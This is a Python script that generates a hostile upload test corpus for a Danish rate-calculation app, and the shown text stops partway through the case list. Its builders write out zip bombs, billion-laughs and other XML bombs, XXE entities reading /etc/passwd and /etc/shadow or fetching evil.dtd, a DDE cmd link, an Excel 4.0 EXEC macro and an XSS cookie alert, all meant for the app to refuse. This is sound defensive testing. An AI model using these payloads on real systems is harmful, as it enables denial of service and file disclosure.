"""Builds the hostile upload corpus in tests/fixtures/hostile/ from nothing but this repository.

    .venv/bin/python tools/make_hostile_corpus.py            # rewrite tests/fixtures/hostile/
    .venv/bin/python tools/make_hostile_corpus.py --out DIR  # somewhere else (the tests do this)

Every file is made here, byte for byte, from constants, the project's own template writer and a seeded
random generator: nothing is downloaded, and two runs give the same bytes (zip members carry a fixed
date, openpyxl's timestamps are replaced). Next to the files it writes ``manifest.json`` (what each file
is, why it is hostile and what the app must answer) and ``README.md`` (the same as a table).

Expectations (``expect`` in the manifest):

* ``refused``  — a Danish 4xx, nothing saved; the CLI exits 2 (unreadable) or 1 (errors).
* ``findings`` — a well-formed template with one bad cell: 422 with a Danish finding that names
  the cell (``celle C27``), nothing saved; the CLI exits 1.
* ``read``     — a control: a well-formed template whose odd but unambiguous Danish number must be
  read exactly (``value``), never misread; it is saved like any valid draft.
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import io
import json
import random
import re
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, datetime, time
from decimal import Decimal
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "src"))

from openpyxl import load_workbook  # noqa: E402
from openpyxl.worksheet.formula import ArrayFormula  # noqa: E402

from rammeaftale.adapters.excel.template import write_template  # noqa: E402

OUT = ROOT / "tests" / "fixtures" / "hostile"
FIXTURE = ROOT / "tests" / "fixtures" / "fjordgaarden-2026.json"
MB = 1024 * 1024
FIXED_DATE = (2026, 1, 1, 0, 0, 0)
FIXED_STAMP = "2026-01-01T00:00:00Z"
SHEET = "xl/worksheets/sheet1.xml"  # "Takstberegning", the sheet the reader reads
AMOUNT_CELL = "C27"  # costs.activities: 600 000 kr. in the base template, no lines below it
NAME_CELL = "C9"  # offer.name
YEAR_CELL = "C6"  # budget_year
SEED = 20261122

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b"</Types>"
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
)
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@dataclass(frozen=True)
class Case:
    file: str
    category: str
    why: str
    build: Callable[[], bytes]
    expect: str = "refused"  # refused | findings | read
    extra: dict[str, str] = field(default_factory=dict)  # e.g. cell, value, message


# --- building blocks -----------------------------------------------------------------------------------


def fjordgaarden_2027() -> dict[str, object]:
    """The handbook's Fjordgården example moved to the open 2027 cycle (what the demo's operator uploads)."""
    data = json.loads(FIXTURE.read_text(encoding="utf-8"), parse_float=Decimal)
    assert isinstance(data, dict)
    data.update(ruleset="nordjylland-2027-2028", budget_year=2027)
    return data


def zip_bytes(
    members: list[tuple[str, bytes]] | dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED, level: int = 9
) -> bytes:
    """A zip with a fixed date on every member, so the same members give the same bytes."""
    items = list(members.items()) if isinstance(members, dict) else members
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression, compresslevel=level) as archive:
        for name, data in items:
            info = zipfile.ZipInfo(name, FIXED_DATE)
            info.compress_type = compression
            info.external_attr = 0o644 << 16
            archive.writestr(info, data, compress_type=compression, compresslevel=level)
    return buffer.getvalue()


def members_of(raw: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def normalised(raw: bytes) -> bytes:
    """openpyxl output made deterministic: fixed member dates and fixed created/modified stamps."""
    members = members_of(raw)
    core = members.get("docProps/core.xml")
    if core is not None:
        members["docProps/core.xml"] = re.sub(
            rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)", rb"\g<1>" + FIXED_STAMP.encode() + rb"\2", core
        )
    return zip_bytes(members)


_TEMPLATE: list[bytes] = []


def template() -> bytes:
    """Rammeaftale's own takstberegningsskema for Fjordgården 2027: valid as it is (the base of many cases)."""
    if not _TEMPLATE:
        _TEMPLATE.append(normalised(write_template(fjordgaarden_2027(), fictitious=True)))
    return _TEMPLATE[0]


def with_members(raw: bytes, changes: dict[str, bytes | None], order: list[str] | None = None) -> bytes:
    """The template with members replaced, added (``bytes``) or removed (``None``)."""
    members = members_of(raw)
    for name, data in changes.items():
        if data is None:
            members.pop(name, None)
        else:
            members[name] = data
    items = list(members.items())
    if order:
        items.sort(key=lambda item: order.index(item[0]) if item[0] in order else len(order))
    return zip_bytes(items)


def with_symlink(raw: bytes, name: str, target: str) -> bytes:
    """``raw`` plus a member stored the way ``zip --symlinks`` stores a symbolic link: Unix mode 0o120777 in the
    upper bits of its external attributes and the link's target as its data (ASVS V5.2.5)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member_name, data in members_of(raw).items():
            info = zipfile.ZipInfo(member_name, FIXED_DATE)
            info.create_system = 3  # Unix, whatever system builds the corpus: the same bytes everywhere
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o100644 << 16
            archive.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
        link = zipfile.ZipInfo(name, FIXED_DATE)
        link.create_system = 3
        link.compress_type = zipfile.ZIP_STORED
        link.external_attr = 0o120777 << 16
        archive.writestr(link, target.encode("utf-8"))
    return buffer.getvalue()


def with_cell_xml(ref: str, cell_xml: str, raw: bytes | None = None) -> bytes:
    """The template with one cell of the Takstberegning sheet replaced by hand-written SpreadsheetML."""
    base = raw or template()
    sheet = members_of(base)[SHEET].decode("utf-8")
    pattern = re.compile(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', re.DOTALL)
    replaced, count = pattern.subn(cell_xml.replace("\\", "\\\\"), sheet, count=1)
    assert count == 1, f"cell {ref} not found in the template"
    return with_members(base, {SHEET: replaced.encode("utf-8")})


def inline_text(ref: str, text: str, style: str = "14") -> str:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" s="{style}" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'


def with_openpyxl(edit: Callable[[object], None]) -> bytes:
    """The template loaded and saved by openpyxl after ``edit(workbook)`` (for dates, number formats, formulas)."""
    workbook = load_workbook(io.BytesIO(template()))
    edit(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return normalised(buffer.getvalue())


def set_cell(ref: str, value: object, number_format: str | None = None, as_text: bool = False) -> bytes:
    def edit(workbook: object) -> None:
        sheet = workbook["Takstberegning"]  # type: ignore[index]
        cell = sheet[ref]
        cell.value = value
        if as_text:
            cell.data_type = "s"  # keep "=1+1" a string, not a formula
        if number_format:
            cell.number_format = number_format

    return with_openpyxl(edit)


def minimal_xlsx(**extra: bytes) -> dict[str, bytes]:
    return {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": WORKBOOK, **extra}


def sheet_xml(rows: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{SHEET_NS}"><sheetData>{rows}</sheetData></worksheet>'
    ).encode()


def ole_file(streams: list[str], payload: bytes = b"") -> bytes:
    """A compound file (CFB/OLE2) header and directory naming ``streams``: what .xls and encrypted .xlsx are."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 0x3, 0xFFFE, 9, 6)  # minor, major, byte order, sector sizes
    struct.pack_into("<IIIII", header, 44, 1, 1, 0, 0x1000, 0xFFFFFFFE)  # FAT sectors, first dir sector, …
    struct.pack_into("<IIII", header, 60, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header[76:512] = b"\xff" * 436
    struct.pack_into("<I", header, 76, 0)  # DIFAT[0]: the FAT is sector 0
    fat = bytearray(b"\xff" * 512)
    struct.pack_into("<II", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE)  # sector 0 is FAT, sector 1 ends the directory
    directory = bytearray()
    for index, name in enumerate(["Root Entry", *streams][:4]):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[0 : len(encoded)] = encoded
        struct.pack_into("<HBB", entry, 64, len(encoded), 5 if index == 0 else 2, 1)
        struct.pack_into("<III", entry, 68, 0xFFFFFFFF, 0xFFFFFFFF, 1 if index == 0 and streams else 0xFFFFFFFF)
        directory += entry
    directory += b"\x00" * (512 - len(directory) % 512 if len(directory) % 512 else 0)
    return bytes(header + fat + directory) + payload


def png_bytes() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    pixels = zlib.compress(b"\x00\xff\x00\x00" * 1, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def exe_bytes() -> bytes:
    stub = bytearray(256)
    stub[0:2] = b"MZ"
    struct.pack_into("<I", stub, 0x3C, 0x80)
    stub[0x40 : 0x40 + 39] = b"This program cannot be run in DOS mode.\r"
    stub[0x80:0x84] = b"PE\x00\x00"
    struct.pack_into("<HH", stub, 0x84, 0x8664, 1)
    return bytes(stub)


def zeros_member(megabytes: int) -> bytes:
    return bytes(megabytes * MB)


def zip_bomb(megabytes: int) -> bytes:
    """One member of ``megabytes`` MB of zeros in a minimal workbook: about a thousand times smaller packed."""
    buffer = io.BytesIO()
    chunk = bytes(MB)
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in minimal_xlsx().items():
            info = zipfile.ZipInfo(name, FIXED_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
        info = zipfile.ZipInfo("xl/media/image1.png", FIXED_DATE)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            for _ in range(megabytes):
                member.write(chunk)
    return buffer.getvalue()


def many_members(count: int) -> bytes:
    """A minimal workbook whose zip directory lists ``count`` more empty members (all at offset 0).

    Only the central directory is written for them (49 bytes each), which is all a zip reader lists.
    """
    base = zip_bytes(minimal_xlsx())
    directory_start = base.find(b"PK\x01\x02")
    end = base.rfind(b"PK\x05\x06")
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    names = [(a + b + c).encode() for a in alphabet for b in alphabet for c in alphabet][:count]
    dos_time = (FIXED_DATE[3] << 11) | (FIXED_DATE[4] << 5) | (FIXED_DATE[5] // 2)
    dos_date = ((FIXED_DATE[0] - 1980) << 9) | (FIXED_DATE[1] << 5) | FIXED_DATE[2]
    extra = b"".join(
        struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, dos_time, dos_date, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0
        )
        + name
        for name in names
    )
    directory = base[directory_start:end] + extra
    entries = 2 + len(names)
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(directory), directory_start, 0)
    return base[:directory_start] + directory + eocd


def nested_zip_bomb() -> bytes:
    """The valid template carrying a zip of zips (each inner one a 60 MB zip bomb) as an embedded object."""
    inner = zip_bomb(60)
    middle = zip_bytes([(f"lag-{i}.zip", inner) for i in range(4)], compression=zipfile.ZIP_STORED)
    return with_members(template(), {"xl/embeddings/oleObject1.bin": middle})


def encrypted_flag() -> bytes:
    raw = bytearray(template())
    start = raw.find(b"PK\x01\x02")
    while start != -1:
        raw[start + 8] |= 0x01
        start = raw.find(b"PK\x01\x02", start + 4)
    start = raw.find(b"PK\x03\x04")
    while start != -1:
        raw[start + 6] |= 0x01
        start = raw.find(b"PK\x03\x04", start + 4)
    return bytes(raw)


def damaged_deflate() -> bytes:
    """The template with bytes in the middle of the packed sheet overwritten (CRC and inflate fail)."""
    raw = bytearray(template())
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        info = archive.getinfo(SHEET)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(start + 200, start + 260):
        raw[offset] ^= 0x5A
    return bytes(raw)


def billion_laughs(root: str = "worksheet") -> bytes:
    entities = "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY lol "lol">{entities}]>'
        f'<{root} xmlns="{SHEET_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        f"</sheetData></{root}>"
    ).encode()


def quadratic_blowup() -> bytes:
    """One 50 kB entity referenced 20 000 times: a gigabyte when expanded, without nesting."""
    big = "A" * 50_000
    refs = "&a;" * 20_000
    return (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "{big}">]>'
        f'<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{refs}</t></is></c>'
        "</row></sheetData></worksheet>"
    ).encode()


def deep_xml(levels: int = 100_000) -> bytes:
    return (
        f'<?xml version="1.0"?><worksheet xmlns="{SHEET_NS}">' + "<a>" * levels + "</a>" * levels + "</worksheet>"
    ).encode()


def xxe(system_id: str, root: str = "worksheet") -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{system_id}">]>'
        f'<{root} xmlns="{SHEET_NS}"><sheetData><row r="9"><c r="C9" t="inlineStr"><is><t>&xxe;</t></is></c>'
        f"</row></sheetData></{root}>"
    ).encode()


def parameter_entity_xxe() -> bytes:
    return (
        '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>'
        f'<sst xmlns="{SHEET_NS}" count="1" uniqueCount="1"><si><t>x</t></si></sst>'
    ).encode()


def mostly_ones(rng: random.Random, share: float) -> int:
    """1, or now and then another digit: tunes how well the cells pack (to stay under the 1:100 zip-bomb ratio)."""
    return 1 if rng.random() > share else rng.randrange(10)


def huge_rows() -> bytes:
    """The template's sheet followed by 300 000 rows: 12 MB of cells, packed about 1:80 (no zip-bomb ratio)."""
    rng = random.Random(SEED)
    rows = "".join(
        f"<row><c><v>{mostly_ones(rng, 0.15)}</v></c><c><v>{mostly_ones(rng, 0.15)}</v></c></row>"
        for _ in range(300_000)
    )
    return with_sheet_tail(rows)


def huge_columns() -> bytes:
    """45 rows filled across all 16 384 columns (A…XFD): 11 MB of cells, packed about 1:85."""
    rng = random.Random(SEED + 1)
    rows = "".join(
        "<row>" + "".join(f"<c><v>{mostly_ones(rng, 0.1)}</v></c>" for _ in range(16_384)) + "</row>" for _ in range(45)
    )
    return with_sheet_tail(rows)


def at_the_limit() -> bytes:
    """The template plus 23 500 dense rows: cell data just under the 1 MB limit, the slowest file accepted."""
    rows = "".join(f"<row><c><v>{i % 10}</v></c><c><v>{i % 7}</v></c></row>" for i in range(23_500))
    return with_sheet_tail(rows)


def with_sheet_tail(rows: str) -> bytes:
    sheet = members_of(template())[SHEET].decode("utf-8")
    sheet = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576" />', sheet)
    sheet = sheet.replace("</sheetData>", rows + "</sheetData>", 1)
    return with_members(template(), {SHEET: sheet.encode("utf-8")})


def huge_shared_strings() -> bytes:
    """A sharedStrings part with 11 MB of short Danish texts, packed about 1:80."""
    rng = random.Random(SEED + 2)
    words = ["takst", "plads", "belægning", "husleje", "løn", "drift", "tilbud", "ydelse"]
    count = 520_000
    items = "".join(f"<si><t>{words[0] if rng.random() > 0.2 else rng.choice(words)}</t></si>" for _ in range(count))
    sst = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{SHEET_NS}" count="{count}" uniqueCount="{count}">{items}</sst>'
    return with_members(template(), {"xl/sharedStrings.xml": sst.encode("utf-8")})


def many_sheets() -> bytes:
    """The template plus 200 extra worksheets of 60 kB each (12 MB of sheet XML, each part under 1 MB)."""
    rows = "".join("<row><c><v>1</v></c><c><v>2</v></c></row>" for _ in range(1_500))
    extra: dict[str, bytes | None] = {f"xl/worksheets/sheet{i}.xml": sheet_xml(rows) for i in range(4, 204)}
    return with_members(template(), extra)


def far_cell() -> bytes:
    """The template's sheets (also _meta, so it is not our template) replaced by one cell at XFD1048576."""
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{SHEET_NS}"><dimension ref="A1:XFD1048576"/>'
        '<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    ).encode()
    return with_members(template(), {SHEET: sheet, "xl/worksheets/sheet3.xml": sheet})


def truncated(length: int) -> bytes:
    return template()[:length]


def without_central_directory() -> bytes:
    raw = template()
    return raw[: raw.find(b"PK\x01\x02")]


def macro_content_types() -> bytes:
    types = members_of(template())["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return with_members(template(), {"[Content_Types].xml": types})


def docx() -> bytes:
    document = (
        b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Takster 2027</w:t></w:r></w:p></w:body></w:document>'
    )
    types = (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/'
        b'document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"'
        b"/></Types>"
    )
    return zip_bytes({"[Content_Types].xml": types, "word/document.xml": document})


def spreadsheetml_2003() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        b'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Takstberegning"><Table>'
        b'<Row><Cell><Data ss:Type="String">Aktiviteter</Data></Cell><Cell><Data ss:Type="Number">600000</Data></Cell>'
        b"</Row></Table></Worksheet></Workbook>\n"
    )


def external_link() -> bytes:
    """The valid template with an external link part holding a DDE link to cmd (never followed, refused)."""
    link = (
        f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="{SHEET_NS}"><ddeLink ddeService="cmd" '
        'ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    ).encode()
    return with_members(template(), {"xl/externalLinks/externalLink1.xml": link})


def formula_with_cached_value() -> bytes:
    """What Excel saves for =600000*1: the formula and its cached result 600000 (the reader must not take it)."""
    return with_cell_xml(AMOUNT_CELL, f'<c r="{AMOUNT_CELL}" s="14"><f>600000*1</f><v>600000</v></c>')


def array_formula() -> bytes:
    def edit(workbook: object) -> None:
        sheet = workbook["Takstberegning"]  # type: ignore[index]
        sheet[AMOUNT_CELL] = ArrayFormula(AMOUNT_CELL, "=SUM(C23:C26*1)")

    return with_openpyxl(edit)


def date1904_amount() -> bytes:
    def edit(workbook: object) -> None:
        workbook.epoch = datetime(1904, 1, 1)  # type: ignore[attr-defined]
        cell = workbook["Takstberegning"][AMOUNT_CELL]  # type: ignore[index]
        cell.value = 600000
        cell.number_format = "dd-mm-yyyy"

    return with_openpyxl(edit)


def json_variant(**changes: object) -> bytes:
    data = fjordgaarden_2027()
    data.update(changes)
    return json.dumps(data, ensure_ascii=False, default=str).encode()


def json_with_costs(**costs: object) -> str:
    data = fjordgaarden_2027()
    assert isinstance(data["costs"], dict)
    data["costs"].update(costs)
    return json.dumps(data, ensure_ascii=False, default=str)


# --- the corpus ----------------------------------------------------------------------------------------


def cases() -> list[Case]:
    t = template
    number = "Talformater"
    dates = "Excel-datoer"
    return [
        # renamed and wrong types
        Case(
            "renamed-csv.xlsx",
            "Omdøbt filtype",
            "Semikolonsepareret CSV omdøbt til .xlsx.",
            lambda: "tilbud;takst\nFjordgården;2.070,25\n".encode(),
        ),
        Case(
            "renamed-pdf.xlsx",
            "Omdøbt filtype",
            "En PDF omdøbt til .xlsx.",
            lambda: (
                b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
            ),
        ),
        Case("renamed-png.xlsx", "Omdøbt filtype", "Et gyldigt 1x1 PNG-billede omdøbt til .xlsx.", png_bytes),
        Case(
            "renamed-txt.xlsx",
            "Omdøbt filtype",
            "Almindelig tekst omdøbt til .xlsx.",
            lambda: b"Aktiviteter: 600.000 kr.\nHusleje: 540.000 kr.\n",
        ),
        Case(
            "renamed-html.xlsx",
            "Omdøbt filtype",
            "HTML med <script> omdøbt til .xlsx (må aldrig vises som HTML).",
            lambda: (
                b"<!doctype html><html><body><script>alert(document.cookie)</script><table><tr><td>1</td></tr>"
                b"</table></body></html>"
            ),
        ),
        Case("renamed-exe.xlsx", "Omdøbt filtype", "En Windows-programfil (MZ/PE-hoved) omdøbt til .xlsx.", exe_bytes),
        Case(
            "renamed-elf.xlsx",
            "Omdøbt filtype",
            "En Linux-programfil (ELF-hoved) omdøbt til .xlsx.",
            lambda: b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(100),
        ),
        Case(
            "renamed-gzip.xlsx",
            "Omdøbt filtype",
            "En gzip-pakket CSV omdøbt til .xlsx.",
            lambda: gzip.compress(b"tilbud;takst\nFjordgaarden;2070,25\n", mtime=0),
        ),
        Case("renamed-docx.xlsx", "Omdøbt filtype", "Et Word-dokument (også en OOXML-zip) omdøbt til .xlsx.", docx),
        Case(
            "renamed-plain-zip.xlsx",
            "Omdøbt filtype",
            "En almindelig zip-fil med en tekstfil, omdøbt til .xlsx.",
            lambda: zip_bytes({"laes-mig.txt": b"Takster 2027\n"}),
        ),
        Case(
            "renamed-utf16-text.xlsx",
            "Omdøbt filtype",
            "UTF-16-tekst med BOM omdøbt til .xlsx.",
            lambda: "\ufeffAktiviteter\t600000\n".encode("utf-16-le"),
        ),
        Case(
            "renamed-spreadsheetml-2003.xlsx",
            "Omdøbt filtype",
            "Excel 2003 XML-regneark (SpreadsheetML) omdøbt til .xlsx.",
            spreadsheetml_2003,
        ),
        # legacy and encrypted compound files
        Case(
            "legacy-biff8.xls",
            "Gammelt format / OLE",
            "Et gammelt .xls (OLE2-container med en Workbook-strøm).",
            lambda: ole_file(["Workbook", "\x05SummaryInformation"], b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(504)),
        ),
        Case(
            "legacy-biff8-renamed.xlsx",
            "Gammelt format / OLE",
            "Et gammelt .xls omdøbt til .xlsx.",
            lambda: ole_file(["Workbook"], b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(504)),
        ),
        Case(
            "encrypted-ole-agile.xlsx",
            "Krypteret",
            "En adgangskodebeskyttet .xlsx: OLE2 med EncryptionInfo og EncryptedPackage (Agile Encryption).",
            lambda: ole_file(
                ["EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"],
                b'\x04\x00\x04\x00\x40\x00\x00\x00<?xml version="1.0"?><encryption/>' + bytes(470),
            ),
        ),
        Case(
            "encrypted-ole-standard.xlsx",
            "Krypteret",
            "En adgangskodebeskyttet .xlsx med Standard Encryption (v3.2).",
            lambda: ole_file(["EncryptionInfo", "EncryptedPackage"], b"\x03\x00\x02\x00\x24\x00\x00\x00" + bytes(504)),
        ),
        Case(
            "encrypted-zip-flag.xlsx",
            "Krypteret",
            "Skabelonen med zip-krypteringsbitten sat på alle dele.",
            encrypted_flag,
        ),
        # macros
        Case(
            "macro-vbaproject.xlsx",
            "Makroer",
            "Skabelonen med xl/vbaProject.bin (VBA-makroer).",
            lambda: with_members(t(), {"xl/vbaProject.bin": ole_file(["VBA", "PROJECT"])}),
        ),
        Case(
            "macro-vbaproject-uppercase.xlsx",
            "Makroer",
            "Som ovenfor, men med navnet XL/VBAPROJECT.BIN.",
            lambda: with_members(t(), {"xl/VBAPROJECT.BIN": ole_file(["VBA"])}),
        ),
        Case(
            "macro-content-type.xlsx",
            "Makroer",
            "Skabelonen med indholdstypen for en makroprojektmappe (.xlsm).",
            macro_content_types,
        ),
        Case("macro-template.xlsm", "Makroer", "Den gyldige skabelon, men med filnavnet .xlsm.", t),
        Case(
            "macro-binary-workbook.xlsb", "Makroer", "Den gyldige skabelon med filnavnet .xlsb (binær projektmappe).", t
        ),
        Case(
            "macro-excel4-macrosheet.xlsx",
            "Makroer",
            "Skabelonen med et Excel 4.0-makroark (xl/macrosheets/).",
            lambda: with_members(
                t(), {"xl/macrosheets/sheet1.xml": sheet_xml('<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>')}
            ),
        ),
        # truncated and damaged
        Case("truncated-4-bytes.xlsx", "Afkortet", "Kun zip-signaturen PK\\x03\\x04.", lambda: truncated(4)),
        Case("truncated-30-bytes.xlsx", "Afkortet", "Kun det første lokale zip-hoved.", lambda: truncated(30)),
        Case("truncated-1000-bytes.xlsx", "Afkortet", "Skabelonen afkortet efter 1.000 byte.", lambda: truncated(1000)),
        Case("truncated-half.xlsx", "Afkortet", "Skabelonen afkortet på midten.", lambda: truncated(len(t()) // 2)),
        Case(
            "truncated-no-central-directory.xlsx",
            "Afkortet",
            "Skabelonen uden zip-indholdsfortegnelse.",
            without_central_directory,
        ),
        Case(
            "truncated-last-byte.xlsx", "Afkortet", "Skabelonen uden den sidste byte.", lambda: truncated(len(t()) - 1)
        ),
        Case(
            "damaged-deflate-stream.xlsx",
            "Afkortet",
            "Skabelonen med 60 ødelagte byte midt i det pakkede ark.",
            damaged_deflate,
        ),
        # zip bombs
        Case(
            "zipbomb-60mb-one-member.xlsx",
            "Zip-bombe",
            "Én del med 60 MB nuller, pakket ca. 1:1000.",
            lambda: zip_bomb(60),
        ),
        Case(
            "zipbomb-ratio-2mb.xlsx",
            "Zip-bombe",
            "Én del på 2 MB nuller: over 100 gange større udpakket.",
            lambda: zip_bytes(minimal_xlsx(**{"xl/media/image1.png": zeros_member(2)})),
        ),
        Case(
            "zipbomb-51-members.xlsx",
            "Zip-bombe",
            "51 dele på hver 1 MB nuller (hver under grænsen for pakningsforhold, tilsammen over 50 MB).",
            lambda: zip_bytes(minimal_xlsx(**{f"xl/media/image{i}.png": zeros_member(1) for i in range(51)})),
        ),
        Case(
            "zipbomb-10001-members.xlsx",
            "Zip-bombe",
            "10.001 tomme dele (grænsen er 10.000).",
            lambda: many_members(10_001),
        ),
        Case(
            "zipbomb-nested.xlsx",
            "Zip-bombe",
            "Den gyldige skabelon med en indlejret zip af zip-bomber (4 x 60 MB) som objekt.",
            nested_zip_bomb,
        ),
        # XML bombs
        Case(
            "xmlbomb-billion-laughs-sheet.xlsx",
            "XML-bombe",
            "Billion laughs (10^9 'lol') i arket Takstberegning.",
            lambda: with_members(t(), {SHEET: billion_laughs()}),
        ),
        Case(
            "xmlbomb-billion-laughs-workbook.xlsx",
            "XML-bombe",
            "Billion laughs i xl/workbook.xml.",
            lambda: with_members(t(), {"xl/workbook.xml": billion_laughs("workbook")}),
        ),
        Case(
            "xmlbomb-billion-laughs-content-types.xlsx",
            "XML-bombe",
            "Billion laughs i [Content_Types].xml.",
            lambda: with_members(t(), {"[Content_Types].xml": billion_laughs("Types")}),
        ),
        Case(
            "xmlbomb-quadratic-blowup.xlsx",
            "XML-bombe",
            "Quadratic blowup: én entitet på 50 kB brugt 20.000 gange.",
            lambda: with_members(t(), {SHEET: quadratic_blowup()}),
        ),
        Case(
            "xmlbomb-deep-nesting.xlsx",
            "XML-bombe",
            "100.000 indlejrede elementer i arket (ingen DTD).",
            lambda: with_members(t(), {SHEET: deep_xml()}),
        ),
        Case(
            "xmlbomb-rels.xlsx",
            "XML-bombe",
            "Billion laughs i _rels/.rels.",
            lambda: with_members(t(), {"_rels/.rels": billion_laughs("Relationships")}),
        ),
        # external entities and DTDs
        Case(
            "xxe-file-sheet.xlsx",
            "XXE / DTD",
            "Ekstern entitet SYSTEM file:///etc/passwd i arket.",
            lambda: with_members(t(), {SHEET: xxe("file:///etc/passwd")}),
        ),
        Case(
            "xxe-http-shared-strings.xlsx",
            "XXE / DTD",
            "Ekstern entitet SYSTEM http://127.0.0.1:9/ i sharedStrings.",
            lambda: with_members(t(), {"xl/sharedStrings.xml": xxe("http://127.0.0.1:9/hemmelig", "sst")}),
        ),
        Case(
            "xxe-parameter-entity.xlsx",
            "XXE / DTD",
            "Ekstern parameterentitet (%remote;) der henter en DTD over http.",
            lambda: with_members(t(), {"xl/sharedStrings.xml": parameter_entity_xxe()}),
        ),
        Case(
            "xxe-utf16.xlsx",
            "XXE / DTD",
            "Ekstern entitet i et ark kodet som UTF-16 (omgåelse af bytefiltre).",
            lambda: with_members(
                t(),
                {
                    SHEET: xxe("file:///etc/shadow")
                    .decode()
                    .replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
                    .encode("utf-16")
                },
            ),
        ),
        Case(
            "dtd-internal-subset.xlsx",
            "XXE / DTD",
